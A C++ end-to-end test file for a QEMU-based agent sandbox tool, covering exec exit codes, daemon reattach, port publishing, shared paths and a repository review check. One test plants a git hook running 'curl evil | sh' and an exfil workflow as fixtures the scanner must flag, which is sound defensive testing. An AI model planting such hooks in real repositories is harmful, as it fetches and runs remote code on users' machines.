// End-to-end tests of sandboxes: the real CLI, the real daemons and real
// QEMU guests booting the built kernel, initramfs and base template.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <pty.h>
#include <signal.h>
#include <sys/wait.h>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <future>
#include <fstream>
#include <iostream>
#include <sstream>
#include <map>
#include <thread>

#include "common/fd_io.h"
#include "common/subprocess.h"
#include "common/testing/harness.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "tests/proc_probe.h"
#include "tests/share_checks.h"
#include "gtest/gtest.h"
#include "nlohmann/json.hpp"

namespace airlock {
namespace {

using testing::BinaryPath;

class SandboxE2ETest : public ::testing::Test {
 protected:
  void SetUp() override {
    // The harness's env (apid on a port of its own: a daemon set already
    // on 7777, a user's or another test's, must not fail this one).
    env_ = testing::AirlockEnv(dir_.path());
    env_["AIRLOCK_LIBEXEC_DIR"] = "";
    for (const auto& [k, v] : env_) setenv(k.c_str(), v.c_str(), 1);
  }
  void TearDown() override {
    if (HasFailure()) std::cerr << testing::FailureDiagnostics(dir_.path());
    Airlock({"rm", "-f", "--all"});
    Airlock({"daemon", "stop"});
    // Nothing of this test may survive it.
    EXPECT_TRUE(testing::ProcessesNamed(dir_.path()).empty())
        << "processes of this test left running";
    for (pid_t p : testing::ProcessesNamed(dir_.path())) kill(p, SIGKILL);
  }

  CommandResult Airlock(const std::vector<std::string>& args, const std::string& input = "") {
    return testing::RunAirlock(env_, args, input);
  }

  nlohmann::json Sandbox(const std::string& name) {
    auto r = Airlock({"ls", "--json"});
    for (const auto& sb : nlohmann::json::parse(r.out)) {
      if (sb["name"] == name) return sb;
    }
    return nullptr;
  }

  // WaitState polls until the sandbox reaches `state` (true) or 240 s pass.
  bool WaitState(const std::string& name, const std::string& state) {
    for (int i = 0; i < 480; ++i) {
      nlohmann::json sb = Sandbox(name);
      if (!sb.is_null() && sb["state"] == state) return true;
      std::this_thread::sleep_for(std::chrono::milliseconds(500));
    }
    return false;
  }

  pid_t VmmdPid() {
    std::ifstream f(dir_.path() + "/run/vmmd.pid");
    pid_t pid = 0;
    f >> pid;
    return pid;
  }

  testing::ShortTempDir dir_;
  std::map<std::string, std::string> env_;
};

TEST_F(SandboxE2ETest, RunBootsOwnKernelAndExecReturnsRealExitCodes) {
  auto run = Airlock({"run", "--name", "box1", "-m", "1g", "shell", "--", "uname", "-r"});
  ASSERT_EQ(run.exit_code, 0) << run.err;
  auto host = RunCommand({"uname", "-r"});
  EXPECT_FALSE(run.out.empty());
  EXPECT_NE(run.out, host.out) << "the guest must run its own kernel";
  EXPECT_NE(run.out.find("amd64"), std::string::npos) << run.out;

  EXPECT_EQ(Airlock({"exec", "box1", "--", "true"}).exit_code, 0);
  EXPECT_EQ(Airlock({"exec", "box1", "--", "false"}).exit_code, 1);
  EXPECT_EQ(Airlock({"exec", "box1", "--", "sh", "-c", "exit 42"}).exit_code, 42);
  auto missing = Airlock({"exec", "box1", "--", "no-such-command"});
  EXPECT_EQ(missing.exit_code, 127);
  EXPECT_NE(missing.err.find("command not found"), std::string::npos) << missing.err;
  EXPECT_EQ(Airlock({"exec", "box1", "--", "/etc/passwd"}).exit_code, 126);
  auto unknown = Airlock({"exec", "no-such-box", "--", "true"});
  EXPECT_EQ(unknown.exit_code, 125);
  EXPECT_NE(unknown.err.find("no sandbox named"), std::string::npos) << unknown.err;

  auto id = Airlock({"exec", "box1", "--", "id", "-u"});
  EXPECT_EQ(id.out, "1000\n") << "the default user is agent";
  EXPECT_EQ(Airlock({"exec", "-u", "root", "box1", "--", "id", "-u"}).out, "0\n");
  EXPECT_EQ(Airlock({"exec", "box1", "--", "sudo", "-n", "id", "-u"}).out, "0\n");
  EXPECT_EQ(Airlock({"exec", "-w", "/tmp", "-e", "X=y z", "box1", "--", "sh", "-c",
                     "echo $X; pwd"}).out,
            "y z\n/tmp\n");
  EXPECT_EQ(Airlock({"exec", "-i", "box1", "--", "wc", "-c"}, "12345").out, "5\n");
  auto tools = Airlock({"exec", "box1", "--", "sh", "-c",
                        "command -v bash curl git && test -f /etc/ssl/certs/ca-certificates.crt"});
  EXPECT_EQ(tools.exit_code, 0) << tools.out << tools.err;

  auto ls = Airlock({"ls"});
  EXPECT_NE(ls.out.find("box1"), std::string::npos);
  EXPECT_NE(ls.out.find("running"), std::string::npos);
  EXPECT_EQ(Airlock({"ls", "-q"}).out, "box1\n");
}

TEST_F(SandboxE2ETest, GuestProcessesStartWithoutRandomizationUnderTcgOnly) {
  // vmmd's --guest-aslr auto: under TCG the processes a guest starts get
  // no address space randomization (two of them map libc at the same
  // place), under KVM they do.
  auto aslr = Airlock({"run", "--name", "aslr", "-m", "1g", "shell", "--", "sh", "-c",
                       "cat /proc/sys/kernel/randomize_va_space; "
                       "a=$(grep -m1 libc /proc/self/maps); b=$(grep -m1 libc /proc/self/maps); "
                       "[ \"${a%%-*}\" = \"${b%%-*}\" ] && echo same || echo moved"});
  bool tcg = Sandbox("aslr")["accelerator"] == "tcg";
  EXPECT_EQ(aslr.out, tcg ? "0\nsame\n" : "2\nmoved\n") << aslr.err;
}

TEST_F(SandboxE2ETest, GuestHandsBackFreedMemoryInSmallBlocks) {
  // The agent bounds the free pages each guest CPU keeps for itself (free
  // page reporting never sees them: at -m 1g they reached 6,928 pages a
  // CPU) and has free blocks from 512 KiB (order 7) reported, not 2 MiB.
  ASSERT_EQ(Airlock({"create", "--name", "pages", "-m", "1g", "shell"}).exit_code, 0);
  auto got = Airlock({"exec", "-u", "root", "pages", "--", "sh", "-c",
                      "cat /sys/module/page_reporting/parameters/page_reporting_order; "
                      "awk '$1 == \"high:\" && $2 > m {m = $2} END {print m + 0}' /proc/zoneinfo"});
  ASSERT_EQ(got.exit_code, 0) << got.err;
  std::vector<std::string> lines = absl::StrSplit(got.out, '\n', absl::SkipEmpty());
  ASSERT_EQ(lines.size(), 2u) << got.out;
  EXPECT_EQ(lines[0], "7");
  int high = std::stoi(lines[1]);
  EXPECT_GT(high, 0);
  EXPECT_LE(high, 512) << "the largest per-CPU list may hold " << high << " pages";
}

TEST_F(SandboxE2ETest, GuestKernelSkipsOnlyItsOwnNamedStartUpWork) {
  // vmmd's kernel command line names built-in initcalls the guest skips.
  // The kernel matches names: each must be exactly one of this kernel's
  // functions (a name it renamed would silently run again, one two
  // initcalls share would skip both), and tracefs has none of the files
  // tracer_init_tracefs makes.
  ASSERT_EQ(Airlock({"create", "--name", "inits", "-m", "1g", "shell"}).exit_code, 0);
  auto got = Airlock(
      {"exec", "-u", "root", "inits", "--", "sh", "-c",
       "l=$(tr ' ' '\\n' < /proc/cmdline | sed -n 's/^initcall_blacklist=//p'); "
       "awk -v l=\"$l\" 'BEGIN {n = split(l, a, \",\"); for (i = 1; i <= n; i++) w[a[i]] = 1} "
       "($3 in w) {f[$3]++} "
       "END {for (k in w) print \"functions named \" k \": \" f[k] + 0}' /proc/kallsyms; "
       "mkdir -p /tmp/tracefs && mount -t tracefs nodev /tmp/tracefs && "
       "echo tracefs: $(ls /tmp/tracefs | grep -c -x -e trace -e available_events -e events); "
       "umount /tmp/tracefs"});
  ASSERT_EQ(got.exit_code, 0) << got.err;
  std::vector<std::string> lines = absl::StrSplit(got.out, '\n', absl::SkipEmpty());
  ASSERT_FALSE(lines.empty());
  EXPECT_EQ(lines.back(), "tracefs: 0");
  lines.pop_back();
  EXPECT_GE(lines.size(), 10u) << got.out;
  for (const std::string& line : lines) EXPECT_TRUE(absl::EndsWith(line, ": 1")) << line;
}

TEST_F(SandboxE2ETest, ABootWhoseVmSitsIdleIsBootedAgain) {
  // A guest that hangs halted (seen under TCG: both vCPUs halted, no
  // interrupt ever coming) uses no CPU; a stopped QEMU is one for sure.
  // vmmd boots the sandbox again instead of waiting out its deadline.
  CommandResult run;
  std::atomic<bool> ran{false};
  std::thread run_thread([&] {
    run = Airlock({"run", "--name", "idle", "-m", "1g", "shell", "--", "echo", "up"});
    ran = true;
  });
  // Looked for while the run lasts (the thread is joined before any
  // assertion).
  pid_t first = 0;
  int stopped = -1;
  while (first == 0 && !ran) {
    std::vector<pid_t> vms = testing::ProcessesNamed(dir_.path() + "/run/vms/idle/");
    if (!vms.empty()) {
      first = vms.front();
      stopped = kill(first, SIGSTOP);
    } else {
      std::this_thread::sleep_for(std::chrono::milliseconds(25));
    }
  }
  run_thread.join();
  ASSERT_GT(first, 0) << "no VM started";
  ASSERT_EQ(stopped, 0);
  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_EQ(run.out, "up\n");
  EXPECT_TRUE(AwaitExit(first, std::chrono::seconds(5))) << "the hung VM was left behind";
  std::string log = ReadFileToString(dir_.path() + "/state/logs/vmmd.log");
  EXPECT_NE(log.find("the guest's boot hangs; booting again"), std::string::npos) << log;
  EXPECT_NE(log.find("before the guest agent was ready (the guest sits halted)"), std::string::npos);
  EXPECT_EQ(access((dir_.path() + "/state/sandboxes/idle/console.log.1").c_str(), F_OK), 0)
      << "the hung boot's console is kept";
  nlohmann::json sb = Sandbox("idle");
  EXPECT_EQ(sb["state"], "running") << sb.dump();
  EXPECT_NE(sb["pid"], first);
}

TEST_F(SandboxE2ETest, TtySessionThroughAPty) {
  ASSERT_EQ(Airlock({"create", "--name", "tty1", "-m", "1g", "shell"}).exit_code, 0);
  int master;
  struct winsize ws = {33, 111, 0, 0};
  pid_t pid = forkpty(&master, nullptr, nullptr, &ws);
  if (pid == 0) {
    std::string bin = BinaryPath("cli/airlock");
    execl(bin.c_str(), bin.c_str(), "exec", "-it", "tty1", "--", "bash", "--norc", nullptr);
    _exit(127);
  }
  std::string out;
  auto pump = [&](int ms) {
    auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(ms);
    char buf[4096];
    while (std::chrono::steady_clock::now() < end) {
      pollfd p = {master, POLLIN, 0};
      if (poll(&p, 1, 100) > 0) {
        ssize_t n = read(master, buf, sizeof(buf));
        if (n <= 0) return;
        out.append(buf, n);
      }
    }
  };
  auto type = [&](const std::string& s) {
    ssize_t unused = write(master, s.data(), s.size());
    (void)unused;
  };
  pump(3000);
  type("tty; stty size\r");
  pump(2000);
  type("sleep 100\r");
  pump(1000);
  type("\x03");  // Ctrl-C reaches the guest's foreground process
  pump(1000);
  type("echo after-ctrl-c; exit 7\r");
  pump(3000);
  int status = 0;
  waitpid(pid, &status, 0);
  close(master);
  EXPECT_NE(out.find("/dev/pts/"), std::string::npos) << out;
  EXPECT_NE(out.find("33 111"), std::string::npos) << out;
  EXPECT_NE(out.find("after-ctrl-c"), std::string::npos) << out;
  ASSERT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 7);
}

TEST_F(SandboxE2ETest, DiskSurvivesStopAndStartAndRmLeavesNothing) {
  ASSERT_EQ(Airlock({"create", "--name", "keep", "-m", "1g", "shell"}).exit_code, 0);
  ASSERT_EQ(Airlock({"exec", "keep", "--", "sh", "-c", "echo kept > /home/agent/note"}).exit_code, 0);
  ASSERT_EQ(Airlock({"stop", "keep"}).exit_code, 0);
  EXPECT_EQ(Sandbox("keep")["state"], "stopped");
  EXPECT_TRUE(testing::ProcessesNamed(dir_.path() + "/state/sandboxes/keep/").empty());
  // exec boots a stopped sandbox first.
  auto cat = Airlock({"exec", "keep", "--", "cat", "/home/agent/note"});
  EXPECT_EQ(cat.out, "kept\n") << cat.err;
  auto refuse = Airlock({"rm", "keep"});
  EXPECT_EQ(refuse.exit_code, 1);
  EXPECT_NE(refuse.err.find("rm -f"), std::string::npos) << refuse.err;
  ASSERT_EQ(Airlock({"rm", "-f", "keep"}).exit_code, 0);
  EXPECT_TRUE(Sandbox("keep").is_null());
  EXPECT_TRUE(testing::ProcessesNamed(dir_.path() + "/state/sandboxes/keep/").empty());
  EXPECT_NE(access((dir_.path() + "/state/sandboxes/keep").c_str(), F_OK), 0);
  EXPECT_NE(access((dir_.path() + "/run/vms/keep").c_str(), F_OK), 0) << "its sockets";
  EXPECT_NE(access((dir_.path() + "/run/jail/keep").c_str(), F_OK), 0) << "its jail";
}

TEST_F(SandboxE2ETest, BadNamesAndSizesAreRefusedAndChangeNothing) {
  ASSERT_EQ(Airlock({"daemon", "start"}).exit_code, 0);
  struct Case {
    std::vector<std::string> args;
    std::string message;
  };
  std::vector<Case> cases = {
      {{"create", "--name", "x", "shell"}, "2 to 63"},
      {{"create", "--name", "default", "shell"}, "reserved"},
      {{"create", "--name", "a/b", "shell"}, "only letters"},
      {{"create", "--name", "-ab", "shell"}, "start with"},
      {{"create", "--name", "ok1", "-m", "256m", "shell"}, "at least 512"},
      {{"create", "--name", "ok1", "-m", "lots", "shell"}, "invalid --memory"},
      {{"create", "--name", "ok1", "--size", "huge", "shell"}, "unknown size"},
      {{"create", "--name", "ok1", "--cpus", "500", "shell"}, "more than 64"},
      {{"create", "--name", "ok1", "nosuchagent"}, "unknown agent"},
  };
  for (const auto& c : cases) {
    auto r = Airlock(c.args);
    EXPECT_NE(r.exit_code, 0) << c.args[2];
    EXPECT_NE(r.err.find(c.message), std::string::npos) << r.err;
  }
  EXPECT_EQ(Airlock({"ls", "-q"}).out, "");
  EXPECT_TRUE(testing::ProcessesNamed(dir_.path() + "/state/sandboxes/").empty());
}

TEST_F(SandboxE2ETest, NamedSizeAndDuplicateName) {
  ASSERT_EQ(Airlock({"create", "--name", "sized", "--size", "micro", "shell"}).exit_code, 0);
  nlohmann::json sb = Sandbox("sized");
  EXPECT_EQ(sb["cpus"], 1);
  EXPECT_EQ(sb["memory_mib"], 2048);
  auto nproc = Airlock({"exec", "sized", "--", "nproc"});
  EXPECT_EQ(nproc.out, "1\n");
  auto dup = Airlock({"create", "--name", "sized", "shell"});
  EXPECT_NE(dup.exit_code, 0);
  EXPECT_NE(dup.err.find("already exists"), std::string::npos) << dup.err;
}

TEST_F(SandboxE2ETest, VmmdKilledWhileRunningReattaches) {
  ASSERT_EQ(Airlock({"create", "--name", "survivor", "-m", "1g", "shell"}).exit_code, 0);
  ASSERT_EQ(Airlock({"exec", "survivor", "--", "sh", "-c", "echo before > /tmp/mark"}).exit_code, 0);
  pid_t qemu = Sandbox("survivor")["pid"];
  ASSERT_GT(qemu, 0);
  ASSERT_EQ(kill(VmmdPid(), SIGKILL), 0);
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_TRUE(ProcessAlive(qemu)) << "the VM must outlive vmmd";
  ASSERT_EQ(Airlock({"daemon", "start"}).exit_code, 0);
  ASSERT_TRUE(WaitState("survivor", "running"));
  EXPECT_EQ(Sandbox("survivor")["pid"], qemu) << "reattached, not rebooted";
  auto cat = Airlock({"exec", "survivor", "--", "cat", "/tmp/mark"});
  EXPECT_EQ(cat.out, "before\n") << cat.err;

  // A reattach that finds proxyd down keeps the sandbox (proxyd attaches
  // its egress again from its own store when it starts); it used to kill
  // the VM and mark the sandbox failed. vmmd is started here alone, as it
  // was (every CLI command would start proxyd with it).
  pid_t vmmd = VmmdPid();
  std::string cmdline = ReadFileToString(absl::StrCat("/proc/", vmmd, "/cmdline"));
  std::vector<std::string> argv = absl::StrSplit(cmdline, '\0', absl::SkipEmpty());
  ASSERT_FALSE(argv.empty());
  const std::string log = dir_.path() + "/state/logs/vmmd.log";
  size_t log_before = ReadFileToString(log).size();
  pid_t proxyd = testing::DaemonPid(dir_.path() + "/run", "proxyd");
  ASSERT_GT(proxyd, 0);
  ASSERT_EQ(kill(proxyd, SIGKILL), 0);
  ASSERT_EQ(kill(vmmd, SIGKILL), 0);
  AwaitExit(proxyd, std::chrono::seconds(5));
  AwaitExit(vmmd, std::chrono::seconds(5));
  ASSERT_TRUE(SpawnDetached(argv, log).ok());
  std::string reattach;
  for (int i = 0; i < 600 && reattach.empty(); ++i) {
    std::string text = ReadFileToString(log).substr(log_before);
    for (const char* end : {"reattached without proxyd", "boot failed"}) {
      if (text.find(end) != std::string::npos) reattach = end;
    }
    if (reattach.empty()) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_EQ(reattach, "reattached without proxyd") << ReadFileToString(log).substr(log_before);
  EXPECT_TRUE(ProcessAlive(qemu)) << "the reattach without proxyd killed the VM";
  EXPECT_EQ(testing::DaemonPid(dir_.path() + "/run", "proxyd"), 0) << "proxyd came back early";
  // The next command starts proxyd; the sandbox is the same running VM.
  nlohmann::json after = Sandbox("survivor");
  EXPECT_EQ(after["state"], "running") << after.dump();
  EXPECT_EQ(after["pid"], qemu);
  cat = Airlock({"exec", "survivor", "--", "cat", "/tmp/mark"});
  EXPECT_EQ(cat.out, "before\n") << cat.err;

  // A stop that finds vmmd gone starts it and waits for its reattach,
  // instead of being refused while the reattach holds the sandbox.
  ASSERT_EQ(kill(VmmdPid(), SIGKILL), 0);
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  auto stop = Airlock({"stop", "survivor"});
  EXPECT_EQ(stop.exit_code, 0) << stop.err;
  EXPECT_EQ(Sandbox("survivor")["state"], "stopped");
  EXPECT_TRUE(AwaitExit(qemu, std::chrono::seconds(5)))
      << "the stopped sandbox's VM is still there";
}

TEST_F(SandboxE2ETest, VmmdKilledDuringCreateLeavesNoOrphan) {
  ASSERT_EQ(Airlock({"daemon", "start"}).exit_code, 0);
  // create returns once the request is accepted; kill vmmd while it boots.
  std::thread create([&] { Airlock({"create", "--name", "midboot", "-m", "1g", "shell"}); });
  for (int i = 0; i < 200 && Sandbox("midboot").is_null(); ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(800));
  ASSERT_EQ(kill(VmmdPid(), SIGKILL), 0);
  create.join();
  ASSERT_EQ(Airlock({"daemon", "start"}).exit_code, 0);
  // Reattached and running, or failed with a reason: never lost.
  nlohmann::json sb;
  for (int i = 0; i < 480; ++i) {
    sb = Sandbox("midboot");
    ASSERT_FALSE(sb.is_null()) << "an accepted sandbox was lost";
    if (sb["state"] == "running" || sb["state"] == "failed") break;
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
  }
  if (sb["state"] == "failed") {
    EXPECT_FALSE(sb["failure"].get<std::string>().empty());
    EXPECT_TRUE(testing::ProcessesNamed(dir_.path() + "/state/sandboxes/midboot/").empty());
  } else {
    EXPECT_EQ(sb["state"], "running");
    EXPECT_EQ(testing::ProcessesNamed(dir_.path() + "/state/sandboxes/midboot/").size(), 1u);
  }
  auto again = Airlock({"exec", "midboot", "--", "echo", "ok"});
  EXPECT_EQ(again.out, "ok\n") << again.err;
  ASSERT_EQ(Airlock({"rm", "-f", "midboot"}).exit_code, 0);
  EXPECT_TRUE(testing::ProcessesNamed(dir_.path() + "/state/sandboxes/").empty());
}

// HttpGet fetches http://127.0.0.1:port/ with a plain socket; "" on failure
// or when no answer comes within `timeout_s`.
std::string HttpGet(int port, int timeout_s = 10) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  timeval wait{timeout_s, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof(wait));
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(port);
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  std::string out;
  if (connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a)) == 0) {
    std::string req = "GET / HTTP/1.0\r\n\r\n";
    ssize_t unused = write(fd, req.data(), req.size());
    (void)unused;
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof(buf))) > 0) out.append(buf, n);
  }
  close(fd);
  return out;
}

// A tiny HTTP server in Perl (part of every Debian rootfs).
const char kServer[] =
    "use IO::Socket::INET; $s=IO::Socket::INET->new(LocalAddr=>'127.0.0.1',LocalPort=>8000,"
    "Listen=>5,ReuseAddr=>1) or die; while($c=$s->accept){<$c>; print $c \"HTTP/1.0 200 "
    "OK\\r\\n\\r\\nhello from the sandbox\\n\"; close $c}";

TEST_F(SandboxE2ETest, PublishedPortReachesGuestServerAndSurvivesRestart) {
  ASSERT_EQ(Airlock({"create", "--name", "web", "-m", "1g", "-p", "8000", "shell"}).exit_code, 0);
  auto ports = nlohmann::json::parse(Airlock({"ports", "web", "--json"}).out);
  ASSERT_EQ(ports.size(), 1u);
  int host_port = ports[0]["host_port"];
  EXPECT_GT(host_port, 0);
  EXPECT_EQ(ports[0]["host_ip"], "127.0.0.1");
  auto serve_and_get = [&] {
    EXPECT_EQ(Airlock({"exec", "-d", "web", "--", "perl", "-e", kServer}).exit_code, 0);
    std::string body;
    for (int i = 0; i < 60 && body.find("hello from the sandbox") == std::string::npos; ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(500));
      body = HttpGet(host_port);
    }
    return body;
  };
  EXPECT_NE(serve_and_get().find("hello from the sandbox"), std::string::npos);

  ASSERT_EQ(Airlock({"stop", "web"}).exit_code, 0);
  EXPECT_EQ(HttpGet(host_port), "") << "nothing answers while the sandbox is stopped";
  ASSERT_EQ(Airlock({"start", "web"}).exit_code, 0);
  auto again = nlohmann::json::parse(Airlock({"ports", "web", "--json"}).out);
  ASSERT_EQ(again.size(), 1u);
  EXPECT_EQ(again[0]["host_port"], host_port) << "the same host port after a restart";
  EXPECT_NE(serve_and_get().find("hello from the sandbox"), std::string::npos);

  // vmmd killed and started again: the port listens once vmmd serves, and
  // a connection made while it reattaches to the guest waits for it
  // instead of being refused (it was, until the reattach's end). The VM
  // is paused meanwhile, so the reattach waits for its agent.
  pid_t vmmd = VmmdPid();
  pid_t qemu = Sandbox("web")["pid"];
  ASSERT_GT(qemu, 0);
  ASSERT_EQ(kill(vmmd, SIGKILL), 0);
  AwaitExit(vmmd, std::chrono::seconds(5));
  ASSERT_EQ(kill(qemu, SIGSTOP), 0);
  ASSERT_EQ(Airlock({"daemon", "start"}).exit_code, 0);
  // Its wait covers the whole reattach, under TCG on a busy host.
  auto during = std::async(std::launch::async, [&] { return HttpGet(host_port, 90); });
  bool answered_early =
      during.wait_for(std::chrono::seconds(1)) == std::future_status::ready;
  ASSERT_EQ(kill(qemu, SIGCONT), 0);
  std::string body = during.get();
  EXPECT_FALSE(answered_early) << "refused while vmmd reattached: \"" << body << "\"";
  EXPECT_NE(body.find("hello from the sandbox"), std::string::npos) << body;
  ASSERT_TRUE(WaitState("web", "running"));
  EXPECT_EQ(Sandbox("web")["pid"], qemu) << "reattached, not rebooted";

  // The same host port for another sandbox, a port some process holds, a
  // bad spec: clear errors, nothing created.
  std::string taken = std::to_string(host_port) + ":80";
  auto dup = Airlock({"create", "--name", "web2", "-p", taken, "shell"});
  EXPECT_NE(dup.exit_code, 0);
  EXPECT_NE(dup.err.find("already published by sandbox web"), std::string::npos) << dup.err;
  int holder = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(holder, reinterpret_cast<sockaddr*>(&a), sizeof(a)), 0);
  listen(holder, 1);
  socklen_t len = sizeof(a);
  getsockname(holder, reinterpret_cast<sockaddr*>(&a), &len);
  auto busy = Airlock({"ports", "web", "--publish", std::to_string(ntohs(a.sin_port)) + ":81"});
  close(holder);
  EXPECT_NE(busy.exit_code, 0);
  EXPECT_NE(busy.err.find("already in use"), std::string::npos) << busy.err;
  auto bad = Airlock({"ports", "web", "--publish", "http"});
  EXPECT_EQ(bad.exit_code, 2);
  EXPECT_NE(bad.err.find("invalid port"), std::string::npos) << bad.err;
  EXPECT_TRUE(Sandbox("web2").is_null());

  ASSERT_EQ(Airlock({"ports", "web", "--unpublish", "8000"}).exit_code, 0);
  EXPECT_EQ(Airlock({"ports", "web", "--json"}).out, "[]\n");
  EXPECT_EQ(HttpGet(host_port), "");
}

TEST_F(SandboxE2ETest, DirectModeSharesPathsAndEnforcesReadOnlyOnTheHost) {
  testing::SharedPaths shared = testing::MakeSharedPaths(dir_.path());
  const std::string& ws = shared.ws;
  const std::string& single = shared.single;
  std::string outside = dir_.path() + "/outside";
  ASSERT_EQ(mkdir(outside.c_str(), 0755), 0);
  std::ofstream(outside + "/secret.txt") << "must not be seen\n";
  // A symlink to the host's /etc and one to a host dir outside the share.
  ASSERT_EQ(symlink("/etc", (ws + "/etc-link").c_str()), 0);
  ASSERT_EQ(symlink(outside.c_str(), (ws + "/outside-link").c_str()), 0);
  ASSERT_EQ(RunCommand({"chown", "-R", "1000:1000", ws}).exit_code, 0);

  std::vector<std::string> args = {"run", "--name", "direct", "-m", "1g", "shell"};
  for (const std::string& a : shared.Args()) args.push_back(a);
  for (const char* a : {"--", "sh", "-c", testing::kSharedPathsCommand}) args.push_back(a);
  testing::ExpectSharesWork(env_, "direct", shared, Airlock(args));

  // Symlinks resolve inside the guest, never to host files.
  auto etc = Airlock({"exec", "direct", "--", "cat", ws + "/etc-link/hostname"});
  EXPECT_EQ(etc.out, "sandbox\n") << "the template's /etc/hostname";
  EXPECT_NE(etc.out, ReadFileToString("/etc/hostname")) << "never the host's /etc";
  auto out = Airlock({"exec", "-u", "root", "direct", "--", "cat", ws + "/outside-link/secret.txt"});
  EXPECT_NE(out.exit_code, 0);
  EXPECT_EQ(out.out.find("must not be seen"), std::string::npos);

  // Bad paths are refused and create nothing.
  auto missing = Airlock({"create", "--name", "nopath", "shell", dir_.path() + "/absent"});
  EXPECT_NE(missing.exit_code, 0);
  EXPECT_NE(missing.err.find("does not exist"), std::string::npos) << missing.err;
  auto file_rw = Airlock({"create", "--name", "nopath", "shell", single});
  EXPECT_NE(file_rw.exit_code, 0);
  EXPECT_NE(file_rw.err.find("single file only with :ro"), std::string::npos) << file_rw.err;
  EXPECT_TRUE(Sandbox("nopath").is_null());

  // The workspace survives a restart, and rm leaves no virtiofsd behind.
  ASSERT_EQ(Airlock({"stop", "direct"}).exit_code, 0);
  auto again = Airlock({"exec", "direct", "--", "cat", "from-guest.txt"});
  EXPECT_EQ(again.out, "from guest\n") << again.err;
  ASSERT_EQ(Airlock({"rm", "-f", "direct"}).exit_code, 0);
  // What may still run is the VM vmmd saves the image's snapshot from
  // (this was the image's first boot), which is nobody's.
  for (pid_t p : testing::ProcessesNamed(dir_.path() + "/run/vms/")) {
    std::string cmdline = ReadFileToString("/proc/" + std::to_string(p) + "/cmdline");
    EXPECT_NE(cmdline.find(dir_.path() + "/run/vms/_snapshot/"), std::string::npos)
        << "left running: " << cmdline;
  }
}

TEST_F(SandboxE2ETest, ReviewCatchesPlantedHookAndWorkflow) {
  std::string repo = dir_.path() + "/repo";
  ASSERT_EQ(mkdir(repo.c_str(), 0755), 0);
  ASSERT_EQ(RunCommand({"git", "init", "-q", repo}).exit_code, 0);
  std::ofstream(repo + "/main.c") << "int main(){}\n";
  ASSERT_EQ(RunCommand({"chown", "-R", "1000:1000", repo}).exit_code, 0);
  ASSERT_EQ(Airlock({"create", "--name", "rev", "-m", "1g", "shell", repo}).exit_code, 0);
  auto clean = Airlock({"review", "rev"});
  EXPECT_EQ(clean.exit_code, 0) << clean.err;
  EXPECT_EQ(clean.out, "no risky changes\n");

  auto plant = Airlock({"exec", "rev", "--", "sh", "-c",
                        "echo 'int main(){return 1;}' > main.c; "
                        "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/post-checkout; "
                        "chmod +x .git/hooks/post-checkout; mkdir -p .github/workflows; "
                        "echo 'on: push' > .github/workflows/exfil.yml"});
  ASSERT_EQ(plant.exit_code, 0) << plant.err;
  auto found = Airlock({"review", "rev", "--json"});
  EXPECT_EQ(found.exit_code, 1);
  auto findings = nlohmann::json::parse(found.out);
  std::map<std::string, std::string> kinds;
  for (const auto& f : findings) kinds[f["kind"]] = f["path"];
  EXPECT_EQ(kinds["git-hook"], repo + "/.git/hooks/post-checkout");
  EXPECT_EQ(kinds["ci-workflow"], repo + "/.github/workflows/exfil.yml");
  EXPECT_EQ(kinds["new-executable"], repo + "/.git/hooks/post-checkout");
  EXPECT_EQ(kinds.count("build-script"), 0u) << "an edit of main.c is not a finding";
  auto table = Airlock({"review", "rev"});
  EXPECT_NE(table.out.find("git-hook"), std::string::npos) << table.out;
  EXPECT_EQ(Airlock({"review", "no-such-box"}).exit_code, 2);
}

// TreeHash is a digest of every path, mode, size and file content under
// `dir` (its .git included).
std::string TreeHash(const std::string& dir) {
  return RunCommand({"sh", "-c",
                     "cd \"$1\" && { find . -printf '%p %m %s %l\\n' | sort; "
                     "find . -type f -print0 | sort -z | xargs -0 sha256sum; } | sha256sum",
                     "hash", dir})
      .out;
}

TEST_F(SandboxE2ETest, CloneModeKeepsHostRepoUntouchedAndFetchesCommits) {
  std::string repo = dir_.path() + "/hostrepo";
  auto git = [&](const std::string& cmd) {
    return RunCommand({"sh", "-c", "cd '" + repo + "' && " + cmd},
                      {{"GIT_CONFIG_NOSYSTEM", "1"}, {"HOME", dir_.path()}});
  };
  ASSERT_EQ(RunCommand({"git", "init", "-q", "-b", "main", repo}).exit_code, 0);
  ASSERT_EQ(git("mkdir -p src && echo v1 > src/app.txt && git add . && "
                "git -c user.name=h -c user.email=h@h commit -qm host-commit && "
                "git branch feature && git remote add origin https://example.com/app.git && "
                "git remote add nearby /srv/elsewhere").exit_code, 0);

  ASSERT_EQ(Airlock({"create", "--clone", "--name", "cl", "-m", "1g", "shell", repo + "/src"})
                .exit_code, 0);
  std::string before = TreeHash(repo);
  auto look = Airlock({"exec", "cl", "--", "sh", "-c",
                       "pwd; git log --format=%s; git remote; cat src/app.txt; "
                       "ls /run/sandbox/source/src"});
